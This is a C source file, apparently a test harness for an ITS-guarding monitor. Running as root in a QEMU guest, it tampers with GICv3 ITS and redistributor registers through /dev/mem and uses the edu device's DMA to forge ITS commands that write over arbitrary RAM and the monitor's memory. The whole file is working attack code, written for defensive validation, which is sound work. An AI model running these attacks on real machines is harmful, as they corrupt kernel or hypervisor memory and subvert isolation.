// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 *   hostile EDU-FOLDER ITS-BASE REDISTRIBUTOR-BASE [MONITOR-PAGE]
 *
 * A hostile program with root on Linux. It reaches the registers through /dev/mem. /dev/mem does
 * not give it RAM, but the DMA engine of QEMU's edu device gives it all RAM. So it can write the
 * command queue without the driver's knowledge.
 *
 * One line for each attack says whether it was stopped or hit. On a bare machine some hit, which
 * shows that they are real. MONITOR-PAGE is a page of the monitor below. With it, attacks are added
 * that would kill a bare machine.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define PAGE	4096ul
#define FRAME	0x20000ul
#define PATTERN 0xa5

#define GITS_CTLR	0x0
#define GITS_CBASER	0x80
#define GITS_CWRITER	0x88
#define GITS_CREADR	0x90
#define GITS_BASER0	0x100
#define GITS_IMPDEF	0xc000
#define GITS_TRANSLATER 0x10040
#define GICR_PROPBASER	0x70
#define GICR_PENDBASER	0x78
#define ADDRESS_BITS                                                                               \
	0xffffffff0000ull /* of BASER<n>, PROPBASER and PENDBASER, in units of 64 KiB */

/*
 * A DeviceID that no PCI function here has, in the part of the device table that Linux has filled
 * in.
 */
#define FORGED_DEVICE 0x1f00ull
#define FORGED_LPI    9000ull

static volatile uint8_t *its, *redistributor, *edu;
static unsigned long monitor_page;
static unsigned int hits;

static void die(const char *what)
{
	fprintf(stderr, "hostile: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void report(const char *name, bool stopped, const char *detail)
{
	printf("itsguard-rig: attack=%s %s %s\n", name, stopped ? "stopped" : "hit", detail);
	hits += !stopped;
}

/* ---- accesses that may be answered with an abort ---- */

static sigjmp_buf fault;

static void on_fault(int number)
{
	(void)number;
	siglongjmp(fault, 1);
}

/*
 * Single loads and stores of one register: what compilers make of volatile may have no syndrome.
 * Each returns false if it ended in an abort.
 */
static bool store(volatile uint8_t *at, unsigned int size, uint64_t value)
{
	if (sigsetjmp(fault, 1))
		return false;
	if (size == 8)
		__asm__ volatile("str %0, [%1]" ::"r"(value), "r"(at) : "memory");
	else if (size == 4)
		__asm__ volatile("str %w0, [%1]" ::"r"(value), "r"(at) : "memory");
	else
		__asm__ volatile("strb %w0, [%1]" ::"r"(value), "r"(at) : "memory");
	/* An abort of a store may come late. */
	__asm__ volatile("dsb sy" ::: "memory");
	return true;
}

static uint64_t load(volatile uint8_t *at, unsigned int size)
{
	uint64_t value = 0;

	if (sigsetjmp(fault, 1))
		return ~0ull;
	if (size == 8)
		__asm__ volatile("ldr %0, [%1]" : "=r"(value) : "r"(at) : "memory");
	else
		__asm__ volatile("ldr %w0, [%1]" : "=r"(value) : "r"(at) : "memory");
	return value;
}

static volatile uint8_t *map_file(const char *path, unsigned long offset, size_t size)
{
	int file = open(path, O_RDWR | O_SYNC);
	void *at;

	if (file < 0)
		die(path);
	at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, file, (off_t)offset);
	if (at == MAP_FAILED)
		die(path);
	close(file);
	return at;
}

/* ---- registers ---- */

/*
 * A register that must keep its value. If it did not, the value is written back, so that Linux can
 * go on.
 */
static void attack_kept(const char *name, volatile uint8_t *at, unsigned int size, uint64_t value)
{
	char detail[80];
	uint64_t before = load(at, size), after;
	bool done = store(at, size, value);

	after = load(at, size);
	if (after != before)
		store(at, size, before);
	snprintf(detail, sizeof(detail), "%s before=%llx after=%llx", done ? "done" : "abort",
		 (unsigned long long)before, (unsigned long long)after);
	report(name, after == before, detail);
}

/* An access that must be answered with an abort. */
static void attack_aborts(const char *name, volatile uint8_t *at, unsigned int size, uint64_t value)
{
	bool done = store(at, size, value);

	report(name, !done, done ? "went through" : "abort");
}

static void attack_registers(unsigned long victim)
{
	uint64_t baser = load(its + GITS_BASER0, 8), cbaser = load(its + GITS_CBASER, 8);
	uint64_t address = victim & ADDRESS_BITS;

	attack_kept("baser", its + GITS_BASER0, 8, (baser & ~ADDRESS_BITS) | address);
	attack_kept("baser-half", its + GITS_BASER0, 4,
		    (uint32_t)((baser & ~ADDRESS_BITS) | address));
	attack_kept("cbaser", its + GITS_CBASER, 8, (cbaser & ~ADDRESS_BITS) | address);
	attack_kept("cwriter-beyond", its + GITS_CWRITER, 4, 0xfffe0);
	attack_kept("creadr", its + GITS_CREADR, 8, 0x40);
	attack_kept("impdef", its + GITS_IMPDEF, 4, 0xffffffff);
	attack_aborts("byte", its + GITS_CTLR, 1, 0);
	attack_aborts("translater", its + GITS_TRANSLATER, 4, 0);
	/* Off and on is allowed. Interrupts that arrive in between are lost, and nothing else. */
	store(its + GITS_CTLR, 4, 0);
	for (int i = 0; i < 1000 && !(load(its + GITS_CTLR, 4) & 1); i++)
		store(its + GITS_CTLR, 4, 1);
	report("ctlr-toggle", load(its + GITS_CTLR, 4) & 1, "enabled again");
}

static void attack_redistributor(unsigned long victim)
{
	uint64_t address = victim & ADDRESS_BITS;
	uint64_t pend = load(redistributor + GICR_PENDBASER, 8),
		 prop = load(redistributor + GICR_PROPBASER, 8);

	attack_kept("gicr-pendbaser", redistributor + GICR_PENDBASER, 8,
		    (pend & ~ADDRESS_BITS) | address);
	attack_kept("gicr-propbaser", redistributor + GICR_PROPBASER, 8,
		    (prop & ~ADDRESS_BITS) | address);
}

/* ---- RAM ---- */

/* Pages of this program whose physical addresses it knows. */
static uint8_t *own_pages(size_t count)
{
	uint8_t *at = mmap(NULL, count * PAGE, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED, -1, 0);

	if (at == MAP_FAILED)
		die("memory");
	memset(at, PATTERN, count * PAGE);
	return at;
}

static unsigned long physical(const void *at)
{
	uint64_t entry = 0;
	int map = open("/proc/self/pagemap", O_RDONLY);

	if (map < 0 || pread(map, &entry, 8, (off_t)((uintptr_t)at / PAGE * 8)) != 8 ||
	    !(entry << 9))
		die("pagemap");
	close(map);
	return (unsigned long)((entry & 0x7fffffffffffffull) * PAGE + (uintptr_t)at % PAGE);
}

/*
 * edu has a page of memory of its own at 0x40000. Its DMA engine does not reach the last bytes of
 * it.
 */
enum {
	EDU_SOURCE = 0x80,
	EDU_TARGET = 0x88,
	EDU_COUNT = 0x90,
	EDU_COMMAND = 0x98,
	EDU_BUFFER = 0x40000
};
enum { EDU_START = 1, EDU_TO_RAM = 2, EDU_MOST = PAGE - 32 };

static void edu_move(unsigned long from, unsigned long to, size_t size, unsigned int direction)
{
	struct timespec moment = {0, 5000000};
	int turns = 400;

	store(edu + EDU_SOURCE, 8, from);
	store(edu + EDU_TARGET, 8, to);
	store(edu + EDU_COUNT, 8, size);
	store(edu + EDU_COMMAND, 8, EDU_START | direction);
	while (load(edu + EDU_COMMAND, 8) & EDU_START) {
		if (!turns--)
			die("edu: no end of DMA");
		nanosleep(&moment, NULL);
	}
}

static void open_edu(const char *folder)
{
	char path[200];
	uint16_t command = 0;
	int config;

	snprintf(path, sizeof(path), "%s/config", folder);
	config = open(path, O_RDWR);
	if (config < 0 || pread(config, &command, 2, 4) != 2)
		die(path);
	command |= 6; /* memory space, bus master */
	if (pwrite(config, &command, 2, 4) != 2)
		die(path);
	close(config);
	snprintf(path, sizeof(path), "%s/resource0", folder);
	edu = map_file(path, 0, PAGE);
}

/* ---- the command queue ---- */

struct command {
	uint64_t words[4];
};

static struct command mapd(uint64_t device, uint64_t itt, unsigned int size)
{
	return (struct command){{0x8 | device << 32, size, 1ull << 63 | itt, 0}};
}

static struct command mapti(uint64_t device, uint64_t event, uint64_t lpi)
{
	return (struct command){{0xa | device << 32, event | lpi << 32, 0, 0}};
}

static struct command discard(uint64_t device, uint64_t event)
{
	return (struct command){{0xf | device << 32, event, 0, 0}};
}

static struct command bare(uint64_t opcode, uint64_t device)
{
	return (struct command){{opcode | device << 32, 0, 0, 0}};
}

/*
 * The driver keeps its own write position, so afterwards it must find the position that it left. So
 * the whole queue is replaced by SYNCs, with the forged commands at the write position, and CWRITER
 * goes around once.
 */
static void run_ring(const struct command *forged, size_t count)
{
	uint64_t cbaser = load(its + GITS_CBASER, 8);
	unsigned long base = cbaser & 0xffffffffff000ull;
	size_t size = ((cbaser & 0xff) + 1) * PAGE, slots = size / 32;
	size_t start = (load(its + GITS_CWRITER, 8) & 0xfffe0) / 32;
	struct command *page = (struct command *)own_pages(1);

	for (size_t i = 0; i < PAGE / 32; i++)
		page[i] = bare(0x5, 0);
	edu_move(physical(page), EDU_BUFFER, EDU_MOST, 0);
	for (size_t at = 0; at < size; at += EDU_MOST)
		edu_move(EDU_BUFFER, base + at, size - at < EDU_MOST ? size - at : EDU_MOST,
			 EDU_TO_RAM);
	memcpy(page, forged, count * 32);
	edu_move(physical(page), EDU_BUFFER, EDU_MOST, 0);
	for (size_t i = 0; i < count; i++)
		edu_move(EDU_BUFFER + 32 * i, base + (start + i) % slots * 32, 32, EDU_TO_RAM);
	for (int half = 1; half <= 2; half++) {
		uint64_t target = (start + slots / 2 * (size_t)half) % slots * 32;
		int turns = 2000000;

		store(its + GITS_CWRITER, 8, target);
		while ((load(its + GITS_CREADR, 8) & 0xfffe0) != target)
			if (!turns--)
				die("the ITS does not go on");
	}
	munmap(page, PAGE);
}

static bool is_untouched(const uint8_t *page)
{
	for (size_t i = 0; i < PAGE; i++)
		if (page[i] != PATTERN)
			return false;
	return true;
}

/*
 * An ITT over a page of this program's, which stands for anybody's page. The ITS writes there what
 * MAPTI says.
 */
static void attack_victim(void)
{
	uint8_t *victim = own_pages(1);
	struct command forged[] = {
		mapd(FORGED_DEVICE, physical(victim), 4),
		mapti(FORGED_DEVICE, 3, FORGED_LPI),
		discard(FORGED_DEVICE, 3),
		bare(0x8, FORGED_DEVICE),
	};

	run_ring(forged, sizeof(forged) / sizeof(forged[0]));
	report("itt-over-memory", is_untouched(victim), "MAPD and MAPTI forged in the queue");
}

/*
 * Commands that no correct driver sends. A bare ITS may skip them, stall or do anything. QEMU skips
 * them.
 */
static void attack_commands(void)
{
	struct command forged[] = {
		bare(0x00, 0),
		bare(0xff, 0),
		bare(0x29, 0),			     /* VMAPP */
		bare(0x23, 0),			     /* VSGI */
		mapti(FORGED_DEVICE, 0, FORGED_LPI), /* of a device that is not mapped */
		mapd(FORGED_DEVICE, 0x4ff00000, 31), /* 2^32 events */
		mapd(0xffffffff, 0x4ff00000, 4),
		{{0x9, 0, 1ull << 63 | 0xffull << 16 | 1, 0}}, /* MAPC to no redistributor */
	};

	run_ring(forged, sizeof(forged) / sizeof(forged[0]));
	report("bad-commands", (load(its + GITS_CREADR, 8) & 1) == 0, "the ITS goes on");
}

/* Only with a monitor. On a bare machine these take Linux's own interrupts or memory away. */
static void attack_monitor(void)
{
	struct command forged[] = {
		mapd(FORGED_DEVICE, monitor_page, 4),
		mapti(FORGED_DEVICE, 3, FORGED_LPI),
		mapti(FORGED_DEVICE, 32, FORGED_LPI), /* an event too many */
		mapti(FORGED_DEVICE, 4, 100),	      /* an SPI */
		discard(FORGED_DEVICE, 5),
		discard(FORGED_DEVICE, 3),
		bare(0x8, FORGED_DEVICE),
		{{0x9, 0, 0, 0}}, /* MAPC V=0 of a collection in use */
	};
	volatile uint8_t *page = map_file("/dev/mem", monitor_page, PAGE);

	run_ring(forged, sizeof(forged) / sizeof(forged[0]));
	report("itt-over-monitor", true, "the monitor looks at its memory when the power goes off");
	attack_aborts("monitor-memory", page, 8, 0);
}

int main(int count, char **words)
{
	unsigned long victim;

	if (count < 4) {
		fputs("usage: hostile EDU-FOLDER ITS-BASE REDISTRIBUTOR-BASE [MONITOR-PAGE]\n",
		      stderr);
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGBUS, on_fault);
	signal(SIGSEGV, on_fault);
	its = map_file("/dev/mem", strtoul(words[2], NULL, 0), FRAME);
	redistributor = map_file("/dev/mem", strtoul(words[3], NULL, 0), PAGE);
	monitor_page = count > 4 ? strtoul(words[4], NULL, 0) : 0;
	open_edu(words[1]);
	victim = physical(own_pages(1));

	attack_registers(victim);
	attack_redistributor(victim);
	attack_victim();
	attack_commands();
	if (monitor_page)
		attack_monitor();
	printf("itsguard-rig: attacks hits=%u\n", hits);
	return 0;
}
